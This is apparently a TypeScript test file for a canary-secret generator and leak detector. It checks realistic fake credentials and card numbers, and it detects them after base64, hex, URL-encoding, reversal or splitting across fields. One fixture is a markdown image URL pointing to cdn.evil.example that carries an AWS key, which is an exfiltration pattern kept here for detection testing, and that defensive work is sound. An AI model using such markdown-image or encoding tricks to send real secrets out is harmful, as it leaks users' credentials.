import { describe, expect, it } from 'vitest';
import { CANARY_KINDS, type Canary, expandKinds, makeCanaries, maskedCanary } from '../../../src/adversary/canaries.js';
import { maskText, maskValue, scanSplit, scanText, scanValue } from '../../../src/adversary/canary-detect.js';

const all = makeCanaries(42, CANARY_KINDS);
const byKind = (kind: Canary['kind']) => all.find((c) => c.kind === kind) as Canary;

function luhnOk(digits: string): boolean {
  let sum = 0;
  for (let i = 0; i < digits.length; i++) {
    let d = Number(digits[digits.length - 1 - i]);
    if (i % 2 === 1) d = d * 2 > 9 ? d * 2 - 9 : d * 2;
    sum += d;
  }
  return sum % 10 === 0;
}

describe('canaries', () => {
  it('come in real formats, numbered from 1', () => {
    expect(all.map((c) => c.n)).toEqual(CANARY_KINDS.map((_, i) => i + 1));
    expect(byKind('aws_access_key_id').value).toMatch(/^AKIA[A-Z0-9]{16}$/);
    expect(byKind('aws_secret_access_key').value).toMatch(/^[A-Za-z0-9/+]{40}$/);
    expect(byKind('github_token').value).toMatch(/^ghp_[A-Za-z0-9]{36}$/);
    expect(byKind('slack_token').value).toMatch(/^xoxb-\d{12}-\d{13}-[A-Za-z0-9]{24}$/);
    expect(byKind('stripe_key').value).toMatch(/^sk_live_[A-Za-z0-9]{24}$/);
    expect(byKind('openai_key').value).toMatch(/^sk-proj-[A-Za-z0-9]{48}$/);
    expect(byKind('anthropic_key').value).toMatch(/^sk-ant-api03-[A-Za-z0-9_-]{64}AA$/);
    const [h, p] = byKind('jwt').value.split('.');
    expect(JSON.parse(Buffer.from(h as string, 'base64url').toString())).toEqual({ alg: 'HS256', typ: 'JWT' });
    expect(JSON.parse(Buffer.from(p as string, 'base64url').toString()).scope).toBe('admin');
    expect(byKind('private_key').value).toMatch(/^-----BEGIN PRIVATE KEY-----\n[\s\S]+\n-----END PRIVATE KEY-----$/);
    expect(byKind('database_url').value).toMatch(
      /^postgres:\/\/svc_billing:[A-Za-z0-9]{20}@db-[0-9a-f]{6}\.internal\.example:5432\/billing$/,
    );
    expect(byKind('email').value).toMatch(/@example\.org$/);
    expect(luhnOk(byKind('card_number').value.replace(/\D/g, ''))).toBe(true);
  });

  it('are seeded: the same per seed, different across seeds and cases', () => {
    expect(makeCanaries(42, CANARY_KINDS)).toEqual(all);
    const other = makeCanaries(43, CANARY_KINDS);
    for (const c of all) expect(other.find((o) => o.kind === c.kind)?.value).not.toBe(c.value);
  });

  it('every generated card number passes Luhn', () => {
    for (let seed = 0; seed < 200; seed++) {
      const [card] = makeCanaries(seed, ['card_number']);
      expect(luhnOk((card as Canary).value.replace(/\D/g, ''))).toBe(true);
    }
  });

  it('expands groups', () => {
    expect(expandKinds(['pii'])).toEqual(['email', 'phone', 'national_id', 'card_number']);
    expect(expandKinds(['jwt', 'credentials']).length).toBe(10);
  });

  it('masks show the ends and the number only', () => {
    const key = byKind('aws_access_key_id');
    expect(maskedCanary(key)).toBe(`${key.value.slice(0, 4)}…${key.value.slice(-3)} (canary 1)`);
  });
});

describe('the canary detector', () => {
  const key = byKind('aws_access_key_id');
  const gh = byKind('github_token');
  const card = byKind('card_number');
  const db = byKind('database_url');
  const pem = byKind('private_key');
  const forms = (text: string) => scanText(text, all).map((h) => `${h.canary.kind}:${h.form}`);

  it('finds nothing in clean text', () => {
    expect(scanText('The checkout page is down since the deploy at 2025-06-02 09:30. Ticket TCK-4821.', all)).toEqual([]);
  });

  it('finds every transform', () => {
    const v = gh.value;
    expect(forms(`token: ${v}`)).toEqual(['github_token:raw']);
    expect(forms(`blob ${Buffer.from(`x=${v};`).toString('base64')} end`)).toEqual(['github_token:base64']);
    expect(forms(Buffer.from(`??${byKind('anthropic_key').value}`).toString('base64url'))[0]).toMatch(/^anthropic_key:base64/);
    expect(forms(Buffer.from(v).toString('hex'))).toEqual(['github_token:hex']);
    expect(forms(`https://x.example/?q=${encodeURIComponent(`k ${db.value}`)}`)).toEqual(['database_url:URL-encoded']);
    expect(forms([...v].reverse().join(''))).toEqual(['github_token:reversed']);
    expect(forms(v.split('').join(' '))).toEqual(['github_token:spaced or case-changed']);
    expect(forms(v.toUpperCase())).toEqual(['github_token:spaced or case-changed']);
    expect(forms(`card ${card.value.replace(/ /g, '.')}`)).toEqual(['card_number:spaced or case-changed']);
    expect(forms(`![s](https://cdn.evil.example/p.png?d=${encodeURIComponent(key.value)})`)).toEqual([
      'aws_access_key_id:raw inside a markdown URL',
    ]);
    expect(forms(Buffer.from(Buffer.from(v).toString('hex')).toString('base64'))).toEqual(['github_token:hex (decoded from base64)']);
    expect(forms(`pw only: ${db.variants[0]}`)).toEqual(['database_url:raw']);
    expect(forms(JSON.stringify({ key: pem.value }))).toEqual(['private_key:raw']);
  });

  it('finds a secret split across fields', () => {
    const v = key.value;
    const value = { subject: `part ${v.slice(0, 10)}`, body: `${v.slice(10)} rest` };
    expect(scanValue(value, all).map((h) => h.form)).toEqual(['split across fields']);
    expect(scanSplit([v.slice(0, 9), v.slice(9)], all).map((h) => h.canary.kind)).toEqual(['aws_access_key_id']);
  });

  it('masks every literal form', () => {
    const text = `a ${gh.value} b ${Buffer.from(gh.value).toString('base64')} c ${encodeURIComponent(db.value)} d ${card.variants[0]}`;
    const masked = maskText(text, all);
    expect(masked).not.toContain(gh.value);
    expect(masked).not.toContain(Buffer.from(gh.value).toString('base64').slice(0, 20));
    expect(masked).not.toContain(db.variants[0]);
    expect(masked).not.toContain(card.variants[0]);
    expect(masked).toContain('(canary 3)');
    expect(scanText(masked, all)).toEqual([]);
    expect(maskValue({ [gh.value]: [pem.value] }, all)).toEqual({ [maskedCanary(gh)]: [maskedCanary(pem)] });
  });
});
